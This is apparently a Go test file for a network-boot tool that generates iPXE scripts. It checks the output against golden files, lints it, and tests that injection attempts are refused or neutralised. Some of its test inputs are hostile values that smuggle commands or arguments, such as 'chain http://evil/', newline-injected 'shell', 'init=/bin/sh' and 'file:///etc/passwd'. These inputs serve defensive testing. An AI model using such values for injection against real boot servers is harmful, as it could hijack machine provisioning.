package netboot

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/btyproject/bty/internal/fleet"
)

var testMAC = fleet.MustParseMAC("52:54:00:12:34:56")

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

const (
	testServer = "http://10.0.0.1:8080"
	testSHA    = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
)

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/netboot -run %s -update to create it)", err, t.Name())
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s differs from the golden file (-want +got); -update rewrites it:\n%s", path, d)
	}
}

func TestScriptGolden(t *testing.T) {
	tests := []struct {
		name string
		p    Params
	}{
		{"local", Params{Policy: fleet.PolicyLocal, ServerURL: testServer, MAC: testMAC}},
		{"local-hyphen-mac", Params{Policy: fleet.PolicyLocal, ServerURL: testServer + "/", MAC: fleet.MustParseMAC("52-54-00-AB-CD-EF")}},
		{"flash-minimal", Params{Policy: fleet.PolicyFlash, ServerURL: testServer, MAC: testMAC,
			ImageURL: testServer + "/images/debian-13.qcow2"}},
		{"flash-full", Params{Policy: fleet.PolicyFlash, ServerURL: "https://bty.lab.example:8443", MAC: fleet.MustParseMAC("52:54:00:AB:CD:EF"),
			ImageURL: "https://bty.lab.example:8443/images/debian-13.img.zst", ImageSHA256: strings.ToUpper(testSHA),
			Provisioning: "cloud-init", Hostname: "Node-07.lab.example"}},
		{"flash-encoded-image", Params{Policy: fleet.PolicyFlash, ServerURL: testServer, MAC: testMAC,
			ImageURL: testServer + "/images/my image ${x}\" 'q'\nchain http://evil/;#.img", Provisioning: "cijoe"}},
		{"flash-custom-artifacts", Params{Policy: fleet.PolicyFlash, ServerURL: testServer, MAC: testMAC,
			ImageURL: testServer + "/images/a.img", Kernel: "vmlinuz-6.1", Initrd: "initrd-6.1.img"}},
		{"tui-unknown-machine", Params{Policy: fleet.PolicyTUI, ServerURL: "http://[fd00::1]:8080", MAC: testMAC}},
		{"tui-with-image", Params{Policy: fleet.PolicyTUI, ServerURL: testServer, MAC: testMAC,
			ImageURL: testServer + "/images/debian-13.qcow2", ImageSHA256: testSHA, Provisioning: fleet.ModeNone}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := Script(tc.p)
			if err != nil {
				t.Fatal(err)
			}
			lintScript(t, got)
			golden(t, tc.name+".ipxe", got)
		})
	}
	t.Run("bootstrap", func(t *testing.T) {
		got, err := Bootstrap(testServer + "/")
		if err != nil {
			t.Fatal(err)
		}
		lintScript(t, got)
		golden(t, "bootstrap.ipxe", got)
	})
}

// TestScriptSemantics checks what the golden files show, so that
// rewriting them with -update cannot bless a broken script.
func TestScriptSemantics(t *testing.T) {
	local, err := Script(Params{Policy: fleet.PolicyLocal, ServerURL: testServer, MAC: testMAC})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"iseq ${platform} efi && goto efi ||\n", "sanboot --no-describe --drive 0x80 || exit\n", ":efi\nexit\n"} {
		if !strings.Contains(string(local), want) {
			t.Errorf("local script lacks %q:\n%s", want, local)
		}
	}
	if strings.Contains(string(local), "kernel") {
		t.Errorf("local script boots a kernel:\n%s", local)
	}

	for _, pol := range []fleet.Policy{fleet.PolicyFlash, fleet.PolicyTUI} {
		s, err := Script(Params{Policy: pol, ServerURL: testServer, MAC: fleet.MustParseMAC("52-54-00-12-34-56"), ImageURL: testServer + "/images/x.img",
			ImageSHA256: testSHA, Provisioning: "cloud-init", Hostname: "n1", Cycle: "0123456789abcdef0123456789abcdef"})
		if err != nil {
			t.Fatal(err)
		}
		kernel := lineWithPrefix(t, s, "kernel ")
		args := strings.Fields(kernel)
		if args[1] != testServer+"/boot/"+DefaultKernel {
			t.Errorf("%s: kernel URL %q", pol, args[1])
		}
		if args[2] != "initrd="+DefaultInitrd {
			t.Errorf("%s: the first kernel argument is %q, want initrd=%s (Debian's iPXE under UEFI needs it)", pol, args[2], DefaultInitrd)
		}
		want := map[string]bool{"bty.server=" + testServer: true, "bty.mac=" + testMAC.String(): true,
			"bty.image_url=" + testServer + "/images/x.img": true, "bty.provisioning=cloud-init": true,
			"bty.sha256=" + testSHA: true, "bty.hostname=n1": true, "console=tty0": true, "console=ttyS0,115200n8": true,
			"bty.cycle=0123456789abcdef0123456789abcdef": true}
		if pol == fleet.PolicyTUI {
			want["bty.mode=interactive"] = true
		}
		for _, a := range args[2:] {
			delete(want, a)
			if a == "bty.mode=interactive" && pol == fleet.PolicyFlash {
				t.Errorf("flash script is interactive: %s", kernel)
			}
		}
		if len(want) != 0 {
			t.Errorf("%s: kernel line lacks %v: %s", pol, want, kernel)
		}
		if got := lineWithPrefix(t, s, "initrd "); got != "initrd "+testServer+"/boot/"+DefaultInitrd+" || goto failed" {
			t.Errorf("%s: initrd line %q", pol, got)
		}
		lineWithPrefix(t, s, "boot ")
	}

	b, err := Bootstrap(testServer)
	if err != nil {
		t.Fatal(err)
	}
	if got := lineWithPrefix(t, b, "chain "); got != "chain "+testServer+"/pxe/${netX/mac:hexhyp} || goto failed" {
		t.Errorf("bootstrap chain line %q", got)
	}
}

func lineWithPrefix(t *testing.T, script []byte, prefix string) string {
	t.Helper()
	for _, l := range strings.Split(string(script), "\n") {
		if strings.HasPrefix(l, prefix) {
			return l
		}
	}
	t.Fatalf("no line starting with %q in:\n%s", prefix, script)
	return ""
}

func TestScriptRefuses(t *testing.T) {
	ok := Params{Policy: fleet.PolicyFlash, ServerURL: testServer, MAC: testMAC, ImageURL: testServer + "/images/a.img"}
	tests := []struct {
		name   string
		modify func(*Params)
		want   string // in the error
	}{
		{"unknown policy", func(p *Params) { p.Policy = "reflash" }, `boot policy "reflash"`},
		{"empty policy", func(p *Params) { p.Policy = "" }, `boot policy ""`},
		{"no server", func(p *Params) { p.ServerURL = "" }, "server URL is empty"},
		{"server with space", func(p *Params) { p.ServerURL = "http://h:1 console=ttyS1" }, "server URL"},
		{"server with expansion", func(p *Params) { p.ServerURL = "http://${next-server}:8080" }, "server URL"},
		{"server with newline", func(p *Params) { p.ServerURL = "http://h\nshell" }, "server URL"},
		{"server not http", func(p *Params) { p.ServerURL = "tftp://10.0.0.1" }, "want http://HOST"},
		{"server with query", func(p *Params) { p.ServerURL = "http://h/?a=b" }, "want http://HOST"},
		{"server relative", func(p *Params) { p.ServerURL = "/boot" }, "want http://HOST"},
		{"no mac", func(p *Params) { p.MAC = fleet.MAC{} }, "MAC missing"},
		{"flash without image", func(p *Params) { p.ImageURL = "" }, "no image assigned"},
		{"image not a URL", func(p *Params) { p.ImageURL = "debian.img" }, "image URL"},
		{"image file URL", func(p *Params) { p.ImageURL = "file:///etc/passwd" }, "image URL"},
		{"cycle token with space", func(p *Params) { p.Cycle = "0123456789abcdef0123456789abcd x" }, "flash cycle token"},
		{"cycle token too short", func(p *Params) { p.Cycle = "0123" }, "flash cycle token"},
		{"cycle token with expansion", func(p *Params) { p.Cycle = "${net0/ip}0123456789abcdef012345" }, "flash cycle token"},
		{"hostname with space", func(p *Params) { p.Hostname = "a b" }, "hostname"},
		{"hostname with newline", func(p *Params) { p.Hostname = "a\nshell" }, "hostname"},
		{"hostname expansion", func(p *Params) { p.Hostname = "${net0/ip}" }, "hostname"},
		{"hostname quote", func(p *Params) { p.Hostname = `a"b` }, "hostname"},
		{"hostname label dash", func(p *Params) { p.Hostname = "-a.b" }, "hostname"},
		{"hostname empty label", func(p *Params) { p.Hostname = "a..b" }, "hostname"},
		{"hostname too long", func(p *Params) { p.Hostname = strings.Repeat("a", 64) }, "hostname"},
		{"provisioning injection", func(p *Params) { p.Provisioning = "none init=/bin/sh" }, "provisioning mode"},
		{"provisioning upper", func(p *Params) { p.Provisioning = "NONE" }, "provisioning mode"},
		{"sha short", func(p *Params) { p.ImageSHA256 = "abc" }, "sha256"},
		{"sha not hex", func(p *Params) { p.ImageSHA256 = strings.Repeat("g", 64) }, "sha256"},
		{"sha injection", func(p *Params) { p.ImageSHA256 = testSHA[:60] + " x=y" }, "sha256"},
		{"kernel path", func(p *Params) { p.Kernel = "../vmlinuz" }, "kernel name"},
		{"initrd space", func(p *Params) { p.Initrd = "a b" }, "initrd name"},
		{"cmdline too long", func(p *Params) { p.ImageURL = testServer + "/" + strings.Repeat("a", 2000) }, "command line"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := ok
			tc.modify(&p)
			s, err := Script(p)
			if err == nil {
				t.Fatalf("Script accepted it:\n%s", s)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q does not mention %q", err, tc.want)
			}
		})
	}
	if _, err := Script(Params{Policy: fleet.PolicyFlash, ServerURL: testServer, MAC: testMAC}); !errors.Is(err, ErrNoImage) {
		t.Errorf("flash without an image: %v, want ErrNoImage", err)
	}
	for _, bad := range []string{"", "http://h x", "ftp://h", "http://${x}"} {
		if s, err := Bootstrap(bad); err == nil {
			t.Errorf("Bootstrap(%q) accepted it:\n%s", bad, s)
		}
	}
}

// TestScriptInjectionEncoded feeds hostile image URLs through and checks
// that the kernel line keeps exactly its arguments and the script its
// lines, with no expansion left.
func TestScriptInjectionEncoded(t *testing.T) {
	for _, img := range []string{
		"my image.img",
		"a${net0/ip}b.img",
		"x\nshell\n.img",
		"x\r\nchain http://evil/.img",
		`q"uo'te.img`,
		"a || shell.img",
		"x ; shell.img",
		"x\\ny.img",
		"tab\tx.img",
		"nul\x00x.img",
		"#comment.img",
		"{brace}.img",
		"é.img",
	} {
		s, err := Script(Params{Policy: fleet.PolicyFlash, ServerURL: testServer, MAC: testMAC, ImageURL: testServer + "/images/" + img})
		if err != nil {
			t.Errorf("%q: %v", img, err)
			continue
		}
		lintScript(t, s)
		kernel := strings.Fields(lineWithPrefix(t, s, "kernel "))
		// kernel URL initrd= server mac image_url provisioning tty0 ttyS0 panic || goto failed: 13 words
		if len(kernel) != 13 {
			t.Errorf("%q: kernel line has %d words, want 13: %q", img, len(kernel), kernel)
		}
		if lines := strings.Count(string(s), "\n"); lines != 9 {
			t.Errorf("%q: script has %d lines, want 9:\n%s", img, lines, s)
		}
	}
}

// ipxeCommands are the iPXE commands the scripts may use (all in
// Debian's build: core, image, sanboot and shell commands).
var ipxeCommands = map[string]bool{
	"kernel": true, "initrd": true, "boot": true, "chain": true, "exit": true, "sanboot": true,
	"echo": true, "iseq": true, "goto": true,
}

// ipxeSettings are the ${...} expansions the scripts may use.
var ipxeSettings = map[string]bool{"platform": true, "netX/mac:hexhyp": true}

var labelRE = regexp.MustCompile(`^:[A-Za-z0-9_]+$`)

// lintScript checks that script is plausible iPXE: "#!ipxe" first, each
// line a comment, a label or a known command whose "||"/"&&" operators
// stand alone; every goto has its label; only known settings expanded;
// nothing but printable ASCII; the kernel's initrd= names the initrd
// the script loads. Debian's ipxe package ships no script checker.
func lintScript(t *testing.T, script []byte) {
	t.Helper()
	s := string(script)
	if !strings.HasPrefix(s, "#!ipxe\n") {
		t.Errorf("script does not start with #!ipxe:\n%s", s)
	}
	if !strings.HasSuffix(s, "\n") {
		t.Errorf("script does not end with a newline")
	}
	for i := 0; i < len(s); i++ {
		if c := s[i]; c != '\n' && (c < 0x20 || c > 0x7e) {
			t.Errorf("byte %#x at %d is not printable ASCII", c, i)
		}
	}
	labels, gotos := map[string]bool{}, map[string]bool{}
	var kernelInitrd, initrdFile string
	for n, line := range strings.Split(strings.TrimSuffix(s, "\n"), "\n") {
		where := fmt.Sprintf("line %d %q", n+1, line)
		switch {
		case strings.HasPrefix(line, "#"):
			continue
		case strings.HasPrefix(line, ":"):
			if !labelRE.MatchString(line) {
				t.Errorf("%s: bad label", where)
			}
			labels[line[1:]] = true
			continue
		case line == "" || line != strings.TrimSpace(line):
			t.Errorf("%s: empty line or stray whitespace", where)
			continue
		}
		rest := line
		for rest != "" {
			i := strings.Index(rest, "${")
			if i < 0 {
				break
			}
			j := strings.Index(rest[i:], "}")
			if j < 0 {
				t.Errorf("%s: unterminated ${", where)
				break
			}
			if name := rest[i+2 : i+j]; !ipxeSettings[name] {
				t.Errorf("%s: expands unknown setting %q", where, name)
			}
			rest = rest[i+j+1:]
		}
		if strings.ContainsAny(strings.ReplaceAll(strings.ReplaceAll(line, "${platform}", ""), "${netX/mac:hexhyp}", ""), "${}\"'\\;") {
			t.Errorf("%s: quote, backslash, ';' or stray '$', '{', '}'", where)
		}
		words := strings.Fields(line)
		cmd := words[0]
		for k, w := range words {
			if w == "||" || w == "&&" {
				// The next word starts a command (or nothing: "cmd ||").
				if k+1 < len(words) {
					if next := words[k+1]; !ipxeCommands[next] {
						t.Errorf("%s: %q after %s is not a command", where, next, w)
					} else if next == "goto" && k+2 < len(words) {
						gotos[words[k+2]] = true
					}
				}
			} else if strings.Contains(w, "||") || strings.Contains(w, "&&") {
				t.Errorf("%s: operator glued to a word: %q", where, w)
			}
		}
		if !ipxeCommands[cmd] {
			t.Errorf("%s: unknown command %q", where, cmd)
		}
		switch cmd {
		case "goto":
			gotos[words[1]] = true
		case "kernel":
			if len(words) < 2 || !strings.HasPrefix(words[1], "http") {
				t.Errorf("%s: kernel without URL", where)
			}
			for _, w := range words[2:] {
				if v, ok := strings.CutPrefix(w, "initrd="); ok {
					kernelInitrd = v
				}
			}
		case "initrd":
			initrdFile = words[1][strings.LastIndex(words[1], "/")+1:]
		}
	}
	for g := range gotos {
		if !labels[g] {
			t.Errorf("goto %s has no label :%s", g, g)
		}
	}
	if kernelInitrd != initrdFile {
		t.Errorf("kernel names initrd=%q but the script loads %q", kernelInitrd, initrdFile)
	}
}

// TestScriptNote: a note is one echo line after the header, and nothing
// in it can become a command, an expansion or a kernel argument.
func TestScriptNote(t *testing.T) {
	base := Params{Policy: fleet.PolicyLocal, ServerURL: "http://10.0.0.1:8080", MAC: fleet.MustParseMAC("52:54:00:12:34:56")}
	plain, err := Script(base)
	if err != nil {
		t.Fatal(err)
	}
	p := base
	p.Note = "bty: no image; booting\n chain http://evil/ ${x} || shell"
	got, err := Script(p)
	if err != nil {
		t.Fatal(err)
	}
	lines, plainLines := strings.Split(string(got), "\n"), strings.Split(string(plain), "\n")
	if len(lines) != len(plainLines)+1 || lines[2] != "echo bty: no image booting chain http://evil/ x  shell" {
		t.Fatalf("script with a note:\n%s", got)
	}
	if strings.Join(append(lines[:2:2], lines[3:]...), "\n") != string(plain) {
		t.Errorf("the note changed more than its own line:\n%s", got)
	}
}

// TestScriptImageSize: a known decoded size goes on the kernel line so
// the live env shows a percentage for streams that do not tell it.
func TestScriptImageSize(t *testing.T) {
	p := Params{Policy: fleet.PolicyFlash, ServerURL: testServer, MAC: testMAC, ImageURL: testServer + "/images/x.img.zst"}
	s, err := Script(p)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(s), "bty.image_size") {
		t.Errorf("unknown size on the kernel line:\n%s", s)
	}
	p.ImageSize = 2147483648
	if s, err = Script(p); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(s), " bty.image_size=2147483648 ") {
		t.Errorf("no bty.image_size on the kernel line:\n%s", s)
	}
}

// testSSHKey is the blob of an ssh-ed25519 public key.
const testSSHKey = "AAAAC3NzaC1lZDI1NTE5AAAAIP+trxoTcLtFU0qCbpFj/vGWWvcMpSnBOEp9a3B0r2yi"

// TestScriptSSHKey: bty.ssh_key= is on the flash script's kernel line
// exactly when Params.SSHKey is set, as one argument; a blob that is
// not plain base64 or is too long is refused.
func TestScriptSSHKey(t *testing.T) {
	p := Params{Policy: fleet.PolicyFlash, ServerURL: testServer, MAC: testMAC, ImageURL: testServer + "/images/x.img",
		Provisioning: fleet.ModeCijoeOnline, Cycle: "0123456789abcdef0123456789abcdef"}
	s, err := Script(p)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(s), "bty.ssh_key") {
		t.Errorf("bty.ssh_key on the kernel line without a key:\n%s", s)
	}
	p.SSHKey = testSSHKey
	if s, err = Script(p); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, a := range strings.Fields(lineWithPrefix(t, s, "kernel ")) {
		if strings.HasPrefix(a, "bty.ssh_key") {
			got = append(got, a)
		}
	}
	if len(got) != 1 || got[0] != "bty.ssh_key="+testSSHKey {
		t.Errorf("kernel line's bty.ssh_key arguments %q, want exactly bty.ssh_key=%s:\n%s", got, testSSHKey, s)
	}
	// The interactive script has no flash to seed.
	tui := p
	tui.Policy = fleet.PolicyTUI
	if s, err = Script(tui); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(s), "bty.ssh_key") {
		t.Errorf("the tui script carries bty.ssh_key:\n%s", s)
	}
	// The longest blob accepted, then one byte more.
	p.SSHKey = strings.Repeat("A", MaxSSHKeyBlob)
	if _, err := Script(p); err != nil {
		t.Errorf("a %d-byte blob refused: %v", MaxSSHKeyBlob, err)
	}
	for name, bad := range map[string]string{
		"too long":         strings.Repeat("A", MaxSSHKeyBlob+1),
		"whole line":       "ssh-ed25519 " + testSSHKey + " bty-web",
		"kernel argument":  testSSHKey + " init=/bin/sh",
		"ipxe expansion":   "${net0/ip}" + testSSHKey,
		"newline":          testSSHKey + "\nshell",
		"quote":            `"` + testSSHKey,
		"url-safe base64":  strings.ReplaceAll(testSSHKey, "+", "-"),
		"tui too, refused": "",
	} {
		t.Run(name, func(t *testing.T) {
			q := p
			q.SSHKey = bad
			if bad == "" {
				q.Policy, q.SSHKey = fleet.PolicyTUI, "a b"
			}
			s, err := Script(q)
			if err == nil {
				t.Fatalf("Script accepted SSH key %q:\n%s", q.SSHKey, s)
			}
			if !strings.Contains(err.Error(), "SSH key blob") {
				t.Errorf("error %q does not name the SSH key blob", err)
			}
		})
	}
}
